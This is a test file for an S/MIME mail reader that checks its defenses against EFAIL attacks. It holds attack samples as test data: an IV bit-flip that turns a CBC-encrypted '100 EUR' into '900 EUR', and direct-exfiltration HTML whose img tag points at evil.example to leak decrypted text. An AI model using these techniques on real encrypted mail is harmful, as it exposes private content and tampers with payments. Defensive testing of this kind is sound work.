/**
 * EFAIL (Poddebniak et al., USENIX Security 2018), the parts that are about messages rather
 * than HTML (efail-html.test.ts holds the rendering):
 * - CBC gadgets: whoever holds a CBC ciphertext can change the plaintext without the key.
 *   Content that came through CBC with no good signature inside the encryption is shown
 *   with a note saying so; AES-GCM (AuthEnvelopedData) refuses a changed ciphertext.
 * - AuthEnvelopedData is written whenever every recipient announced AES-GCM (B8).
 * - Direct exfiltration: an unencrypted HTML part and an encrypted part are never decrypted
 *   and rendered as one document.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Reader } from '../../background/reader/reader';
import { chooseContentCipher } from '../../src/cms/content-cipher-choice';
import type { KeyOperator } from '../../src/cms/key-operator';
import { readMessage, type ReadLayer } from '../../src/cms/read-message';
import { protectMessage } from '../../src/cms/smime-protect';
import { headerValue } from '../../src/mime/part-access';
import { parseMessage } from '../../src/mime/parse';
import { unprotectedContentNotices } from '../../src/smime/content-integrity';
import { composeRequest, composerWorld, issueLeaf, type IssuedLeaf } from '../background/compose-fixtures';
import { crypto as cmsCrypto } from '../cms/envelope-helpers';
import { makeTestPki, openssl, type TestPki } from '../cms/support/openssl-pki';
import { readerTrusting } from '../support/background-reader';
import { runCachet } from '../support/run-cachet';

let pki: TestPki;
let reader: Reader;

const crlf = (text: string): string => text.replace(/\r?\n/g, '\r\n');
const withoutMimeVersion = (entity: string): string => entity.replace(/^MIME-Version: 1\.0\r\n/im, '');
const bob = () => pki.leaves.rsa;

function input(name: string, text: string): string {
  const path = join(pki.dir, `${name}.txt`);
  writeFileSync(path, text, 'latin1');
  return path;
}

/** The entity openssl writes for `plain` encrypted to Bob, as DER, with the cipher asked for. */
function envelopeDer(plain: string, cipher: '-aes-256-cbc' | '-aes-256-gcm', name: string): Buffer {
  return openssl(['cms', '-encrypt', cipher, '-binary', '-in', input(name, plain), '-outform', 'DER', bob().certPath]);
}

function envelopeEntity(der: Uint8Array, authenticated: boolean): string {
  const lines = Buffer.from(der).toString('base64').match(/.{1,76}/g) ?? [];
  return `Content-Type: application/pkcs7-mime; smime-type=${authenticated ? 'authEnveloped-data' : 'enveloped-data'}; name="smime.p7m"\r\n` +
    `Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="smime.p7m"\r\n\r\n${lines.join('\r\n')}\r\n`;
}

function encrypted(plain: string, cipher: '-aes-256-cbc' | '-aes-256-gcm', name: string): string {
  return envelopeEntity(envelopeDer(plain, cipher, name), cipher === '-aes-256-gcm');
}

/** `entity` clear-signed by Bob's own correspondent rsa@example.org (the RSA leaf). */
function signed(entity: string, name: string): string {
  const leaf = pki.leaves.rsa;
  return withoutMimeVersion(crlf(openssl(['cms', '-sign', '-in', input(name, entity), '-signer', leaf.certPath, '-inkey', leaf.keyPath,
    '-certfile', pki.intermediatePath, '-md', 'sha256', '-crlfeol']).toString('latin1')));
}

function message(entity: string, from = 'rsa@example.org'): Uint8Array {
  const headers = [`From: ${from}`, 'To: rsa@example.org', `Date: ${new Date().toUTCString()}`, 'Subject: Payment', 'MIME-Version: 1.0'];
  return new Uint8Array(Buffer.from(`${headers.join('\r\n')}\r\n${entity}`, 'latin1'));
}

async function layersOf(bytes: Uint8Array, operators: readonly KeyOperator[] = [bob().operator]): Promise<readonly ReadLayer[]> {
  return (await readMessage(bytes, { crypto: cmsCrypto, subtle: cmsCrypto.subtle, operators })).layers;
}

beforeAll(async () => {
  pki = makeTestPki();
  reader = await readerTrusting(pki.rootPath, [bob().operator]);
}, 60_000);
afterAll(() => pki.remove());

const payment = 'Content-Type: text/plain; charset=utf-8\r\n\r\nPlease pay 100 EUR to account DE00 1234.\r\n';
const efailNote = /encrypted with aes-256-cbc, which does not detect changes, and no good signature inside the encryption covers its content: it may have been altered on the way \(EFAIL\)/;

describe('CBC content is shown with a note that nothing protects it from changes, unless a good signature inside covers it', () => {
  const cases: readonly { name: string; build: () => string; noted: boolean }[] = [
    { name: 'CBC, not signed', build: () => encrypted(payment, '-aes-256-cbc', 'cbc'), noted: true },
    { name: 'AES-GCM, not signed', build: () => encrypted(payment, '-aes-256-gcm', 'gcm'), noted: false },
    { name: 'CBC around a good signature', build: () => encrypted(signed(payment, 'signed'), '-aes-256-cbc', 'cbc-signed'), noted: false },
    {
      name: 'CBC around a signature whose content was changed',
      build: () => encrypted(signed(payment, 'changed').replace('pay 100 EUR', 'pay 900 EUR'), '-aes-256-cbc', 'cbc-changed'),
      noted: true,
    },
    { name: 'CBC inside a transport signature only', build: () => signed(encrypted(payment, '-aes-256-cbc', 'cbc-transport'), 'transport'), noted: true },
  ];

  for (const { name, build, noted } of cases) {
    it(`${name}: ${noted ? 'noted' : 'no note'}, in the reader and in the rule cachet open shares`, async () => {
      const bytes = message(build());
      const view = await reader.open(bytes.slice(), 'extension');
      expect(view.encrypted).toBe(true);
      expect(view.text).toMatch(/pay [19]00 EUR/);
      const notices = unprotectedContentNotices(await layersOf(bytes));
      expect(notices.length).toBe(noted ? 1 : 0);
      // The reader's notices come from the same rule, word for word.
      for (const notice of notices) expect(view.notices).toContain(notice);
      expect(view.notices.some((n) => efailNote.test(n))).toBe(noted);
    });
  }

  it('names the cipher the message used (3DES too)', async () => {
    const bytes = message(envelopeEntity(openssl(['cms', '-encrypt', '-des3', '-binary', '-in', input('des', payment), '-outform', 'DER', bob().certPath]), false));
    expect(unprotectedContentNotices(await layersOf(bytes))).toEqual([expect.stringMatching(/^the message was encrypted with des-ede3-cbc, which does not detect changes/)]);
  });

  it('is not given for a message that is not encrypted', async () => {
    expect(unprotectedContentNotices(await layersOf(message(signed(payment, 'only-signed')), []))).toEqual([]);
    expect(unprotectedContentNotices(await layersOf(message(payment), []))).toEqual([]);
  });
});

/** Where the content-encryption IV (CBC) or nonce (GCM) sits in the DER openssl wrote. */
function ivOffset(der: Buffer, cipherOid: Buffer, prefix: Buffer): number {
  const at = der.indexOf(Buffer.concat([cipherOid, prefix]));
  if (at === -1) throw new Error('no IV found');
  return at + cipherOid.length + prefix.length;
}
/** DER of the OIDs id-aes256-CBC and id-aes256-GCM (RFC 3565, RFC 5084). */
const AES256_CBC = Buffer.from([0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x01, 0x2a]);
const AES256_GCM = Buffer.from([0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x01, 0x2e]);

describe('why: a CBC gadget changes the text unnoticed, AES-GCM refuses', () => {
  // A body with no header fields: its first 16 octets are the first CBC block, which the
  // IV alone decides. "\r\nPay 100 EUR to" — octet 6 is the "1".
  const plain = '\r\nPay 100 EUR to account DE00 1234.\r\n';

  it('CBC: flipping one IV octet turns 100 into 900; the reader shows it with the note', async () => {
    const der = envelopeDer(plain, '-aes-256-cbc', 'gadget');
    der[ivOffset(der, AES256_CBC, Buffer.from([0x04, 0x10])) + 6]! ^= '1'.charCodeAt(0) ^ '9'.charCodeAt(0);
    const view = await reader.open(message(envelopeEntity(der, false)), 'extension');
    expect(view.text).toContain('Pay 900 EUR');
    expect(view.notices.some((n) => efailNote.test(n))).toBe(true);
    // cachet open says the same, in its JSON and on standard error.
    const path = join(pki.dir, 'cbc-changed.eml');
    writeFileSync(path, message(envelopeEntity(der, false)));
    const opened = await runCachet(['open', '--key', bob().keyPath, '--cert', bob().certPath, '--json', path]);
    expect((JSON.parse(opened.out) as { notices: string[] }).notices.some((n) => efailNote.test(n))).toBe(true);
    const text = await runCachet(['open', '--key', bob().keyPath, '--cert', bob().certPath, path]);
    expect(efailNote.test(text.err)).toBe(true);
  });

  it('AES-GCM: the same change to the nonce is refused, in the reader and by cachet open', async () => {
    const der = envelopeDer(plain, '-aes-256-gcm', 'gcm-gadget');
    der[ivOffset(der, AES256_GCM, Buffer.from([0x30, 0x11, 0x04, 0x0c])) + 6]! ^= 0x08;
    const bytes = message(envelopeEntity(der, true));
    await expect(reader.open(bytes.slice(), 'extension')).rejects.toThrow();
    const path = join(pki.dir, 'gcm-changed.eml');
    writeFileSync(path, bytes);
    const opened = await runCachet(['open', '--key', bob().keyPath, '--cert', bob().certPath, path]);
    expect(opened.code).toBe(2);
    expect(opened.out).not.toContain('EUR');
  });
});

describe('AuthEnvelopedData (AES-GCM) whenever every recipient announced it (B8)', () => {
  let dave: IssuedLeaf;
  let carol: IssuedLeaf;
  const usages = ['keyUsage=critical,digitalSignature,keyEncipherment', 'extendedKeyUsage=emailProtection'];

  beforeAll(() => {
    dave = issueLeaf(pki.dir, 'dave', 'rsa', usages);
    carol = issueLeaf(pki.dir, 'carol', 'rsa', usages);
  });

  /** A signed mail from `leaf`, made by Cachet (announces AES-GCM) or by OpenSSL (CBC only). */
  async function signedMailFrom(leaf: IssuedLeaf, by: 'cachet' | 'openssl'): Promise<Uint8Array> {
    const plain = `From: ${leaf.email}\r\nTo: rsa@example.org\r\nDate: ${new Date().toUTCString()}\r\nSubject: Hi\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nHello.\r\n`;
    if (by === 'cachet') return protectMessage(cmsCrypto, new Uint8Array(Buffer.from(plain)), { sign: { signer: leaf.operator, hash: 'SHA-256' } });
    return new Uint8Array(openssl(['cms', '-sign', '-in', input(`${leaf.email}-mail`, plain), '-signer', leaf.certPath, '-inkey', leaf.keyPath, '-md', 'sha256', '-crlfeol']));
  }

  /** What the reader harvests from a verified signature (create-reader.ts): the certificate and its announced OIDs. */
  async function announced(mail: Uint8Array): Promise<{ certificate: Uint8Array; capabilities: string[] | null }> {
    const [layer] = await layersOf(mail, []);
    if (layer?.kind !== 'signed') throw new Error('not signed');
    const [signer] = layer.layer.signers;
    if (signer?.status !== 'good' || !signer.certificate) throw new Error(`signature ${signer?.status}`);
    return { certificate: signer.certificate, capabilities: signer.capabilities ? signer.capabilities.map((c) => c.oid) : null };
  }

  async function sentTo(announcements: Readonly<Record<'dave' | 'carol', 'cachet' | 'openssl' | 'never'>>, policy?: readonly string[]) {
    const world = await composerWorld({
      identities: [{ id: 'rsa', operator: pki.leaves.rsa.operator }],
      trustedRoots: [pki.intermediate],
      ...(policy ? { user: { encryptionAlgorithms: policy } } : {}),
    });
    for (const [name, leaf] of [['dave', dave], ['carol', carol]] as const) {
      const how = announcements[name];
      if (how === 'never') await world.addressBook.importFile(leaf.certificate);
      else await world.addressBook.harvest({ ...(await announced(await signedMailFrom(leaf, how))), signedAt: new Date() });
    }
    const { message: sent } = await world.composer.build(composeRequest({ identity: 'rsa', to: [dave.email, carol.email], encrypt: true }));
    return { sent, type: headerValue(parseMessage(sent), 'content-type') ?? '' };
  }

  it('both use Cachet, which announces AES-GCM: AuthEnvelopedData, which Dave opens as authenticated', async () => {
    const { sent, type } = await sentTo({ dave: 'cachet', carol: 'cachet' });
    expect(type).toMatch(/smime-type=authEnveloped-data/i);
    const [layer] = await layersOf(sent, [dave.operator]);
    expect(layer?.kind === 'encrypted' && layer.decrypted).toMatchObject({ authenticated: true, cipher: 'aes-256-gcm' });
  });

  it('even when the policy lists CBC first: AES-GCM is preferred once everyone can read it', async () => {
    const { type } = await sentTo({ dave: 'cachet', carol: 'cachet' }, ['aes256-cbc', 'aes256-gcm']);
    expect(type).toMatch(/smime-type=authEnveloped-data/i);
  });

  it('the choice itself: the AES-GCM every recipient reads comes first, whatever the policy\'s order', () => {
    expect(chooseContentCipher(['aes256-cbc', 'aes128-gcm'], [['aes256-cbc', 'aes128-gcm'], ['aes128-gcm']])?.cipher).toBe('aes-128-gcm');
    expect(chooseContentCipher(['aes256-cbc', 'aes128-gcm'], [['aes256-cbc', 'aes128-gcm'], ['aes256-cbc']])?.cipher).toBe('aes-256-cbc');
  });

  it('one recipient announced CBC only (OpenSSL), or never announced anything: CBC for all', async () => {
    expect((await sentTo({ dave: 'cachet', carol: 'openssl' })).type).toMatch(/smime-type=enveloped-data/i);
    expect((await sentTo({ dave: 'cachet', carol: 'never' })).type).toMatch(/smime-type=enveloped-data/i);
  });
});

describe('an unencrypted HTML part and an encrypted part are never rendered as one document', () => {
  const secret = 'Content-Type: text/html; charset=utf-8\r\n\r\n<p>The merger closes on TUESDAY-42.</p>\r\n';
  const boundary = 'efail-direct';
  const head = '<html><body><img src="http://evil.example/?';
  const tail = '">HEAD-TAIL</body></html>';
  const part = (html: string) => `Content-Type: text/html; charset=utf-8\r\n\r\n${html}`;
  const mixed = (...parts: string[]) => `Content-Type: multipart/mixed; boundary="${boundary}"\r\n\r\n${parts.map((p) => `--${boundary}\r\n${p}\r\n`).join('')}--${boundary}--\r\n`;

  it('the reader shows the first HTML part alone and does not decrypt the ciphertext between', async () => {
    let touched = 0;
    const key = new Proxy(bob().operator, { get: (target, property, receiver): unknown => {
      touched++;
      return Reflect.get(target, property, receiver) as unknown;
    } });
    const counting = await readerTrusting(pki.rootPath, [key]);
    const view = await counting.open(message(mixed(part(head), encrypted(secret, '-aes-256-cbc', 'direct'), part(tail)), 'mallory@evil.example'), 'extension');
    expect(touched).toBe(0);
    expect(view.encrypted).toBe(false);
    expect(view.html).toBe(head);
    expect(JSON.stringify(view)).not.toMatch(/TUESDAY-42|HEAD-TAIL/);
  });

  it('cachet open prints one part too, never the plaintext', async () => {
    const path = join(pki.dir, 'direct.eml');
    writeFileSync(path, message(mixed(part(head), encrypted(secret, '-aes-256-cbc', 'direct-cli'), part(tail)), 'mallory@evil.example'));
    const opened = await runCachet(['open', '--key', bob().keyPath, '--cert', bob().certPath, '--json', path]);
    expect(opened.code, opened.err).toBe(0);
    const json = JSON.parse(opened.out) as { encrypted: boolean; text: string };
    expect(json).toMatchObject({ encrypted: false, text: head });
    expect(opened.out).not.toContain('TUESDAY-42');
  });

  it('inside a decrypted body, HTML parts are not joined either: the first is the document', async () => {
    const inner = mixed(part('<p>First <img src="http://evil.example/?'), part('SECOND">more</p>'));
    const view = await reader.open(message(encrypted(inner, '-aes-256-cbc', 'joined')), 'extension');
    expect(view.encrypted).toBe(true);
    expect(view.html).toBe('<p>First <img src="http://evil.example/?');
  });
});
